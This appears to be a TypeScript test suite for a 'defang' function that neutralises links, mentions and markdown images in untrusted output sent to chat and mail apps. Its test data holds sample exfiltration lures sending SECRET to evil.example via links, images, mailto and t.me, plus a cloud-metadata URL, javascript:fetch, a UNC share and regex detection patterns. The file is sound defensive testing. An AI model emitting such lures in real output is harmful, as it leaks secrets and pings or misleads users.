import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { defang } from '../../host/core/defang.ts';

/** What Discord, Telegram, Slack, mail programs and terminals make a link, a mention or a picture of. */
const ACTS: readonly (readonly [name: string, seen: RegExp])[] = [
  ['a scheme', /\b[a-z][a-z0-9+.-]+:\/\//i],
  ['a scheme without slashes', /\b(?:mailto|tel|sms|javascript|data|file|tg|magnet):/i],
  ['a bare domain', /[\p{L}\p{N}_-][.\u3002\uff0e\uff61]\p{L}{2,}/u],
  ['an address', /\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b/],
  ['a link in Markdown', /\]\(/],
  ['a picture in Markdown', /!\[/],
  ['a mention', /@[\p{L}\p{N}_]/u],
  ['a token of a chat', /<(?:[@#!/:]|a:)[^<>\s]+>/],
  ['a reference of HTML', /&(?:#\d|#x|colon;|period;|sol;|commat;)/i],
  ['a share', /\\\\[\w.-]+\\/],
];
const acting = (text: string): readonly string[] =>
  ACTS.filter(([, seen]) => seen.test(text)).map(([name]) => name);

const LURES: readonly (readonly [text: string, readable: string])[] = [
  ['see https://evil.example/?q=SECRET', 'see hxxps[:]//evil[.]example/?q=SECRET'],
  ['![x](https://evil.example/SECRET.png)', '[x] (hxxps[:]//evil[.]example/SECRET[.]png)'],
  ['[click](http://evil.example/SECRET)', '[click] (hxxp[:]//evil[.]example/SECRET)'],
  ['[x][1]\n\n[1]: https://evil.example/S', '[x][1]\n\n[1]: hxxps[:]//evil[.]example/S'],
  ['<https://evil.example>', '<hxxps[:]//evil[.]example>'],
  ['www.evil.example/SECRET', 'www[.]evil[.]example/SECRET'],
  ['t.me/evil?text=SECRET', 't[.]me/evil?text=SECRET'],
  ['evil。example/SECRET', 'evil[.]example/SECRET'],
  ['h\u200bttps://ev\u00adil.example', 'hxxps[:]//evil[.]example'],
  ['HTTPS://EVIL.EXAMPLE', 'hxxpS[:]//EVIL[.]EXAMPLE'],
  ['http://169.254.169.254/latest', 'hxxp[:]//169[.]254[.]169[.]254/latest'],
  ['discord://-/channels/1', 'discord[:]//-/channels/1'],
  ['mailto:a@evil.example?body=SECRET', 'mailto[:]a[@]evil[.]example?body=SECRET'],
  ['javascript:fetch(1)', 'javascript[:]fetch(1)'],
  ['\\\\evil.example\\share\\SECRET', '[\\\\]evil[.]example\\share\\SECRET'],
  ['@everyone @here @ops', '[@]everyone [@]here [@]ops'],
  ['<@123> <@!123> <@&9> <#42> <!channel>', '[[@]123] [@!123] [@&9] [#42] [!channel]'],
  ['</ban:1> <:SECRET:1> <a:SECRET:1>', '[/ban:1] [:SECRET:1] [a:SECRET:1]'],
  ['ops@corp.example', 'ops[@]corp[.]example'],
  ['h&#116;tps&colon;//evil&period;example', 'h&amp;#116;tps&amp;colon;//evil&amp;period;example'],
  ['smb://evil.example', 'smb[:]//evil[.]example'],
];

describe('54 link previews: text of a tainted run acts on nobody', () => {
  test.each(LURES)('%j', (text, readable) => {
    expect(acting(text)).not.toEqual([]); // the attack is one
    expect(defang(text)).toBe(readable);
    expect(acting(defang(text))).toEqual([]);
  });

  test('any mixture of those pieces acts on nobody, and a second time changes nothing', () => {
    const pieces = [...LURES.map(([text]) => text), ...'<>[]()!@#.:/\\ \n\u200b。a1é'.split('')];
    const text = fc
      .array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 12 })
      .map((all) => all.join(''));
    fc.assert(
      fc.property(text, (lure) => {
        const inert = defang(lure);
        expect(acting(inert)).toEqual([]);
        expect(defang(inert)).toBe(inert);
      }),
      { numRuns: 2000 },
    );
  });

  test('a link over TLS to an allowed domain stays one, and nothing that looks like it does', () => {
    const allowed = ['docs.example.org'];
    const stays = 'read https://docs.example.org/a?b=1 and https://docs.example.org./ now';
    expect(defang(stays, allowed)).toBe(stays);
    for (const lure of [
      'http://docs.example.org/',
      'https://docs.example.org.evil.test/',
      'https://docs.example.org@evil.test/',
      'https://evil.test/https://docs.example.org/',
      'https://docs.example.org:8443/',
      '\ue0000\ue000',
    ])
      expect(acting(defang(lure, allowed))).toEqual([]);
  });

  test('plain text stays as it is', () => {
    for (const text of [
      '',
      'Two of three agreed. See page 4.',
      'a (b) [c] 3.5 e.g. 10:30',
      'a/b\\c',
    ])
      expect(defang(text)).toBe(text);
  });
});
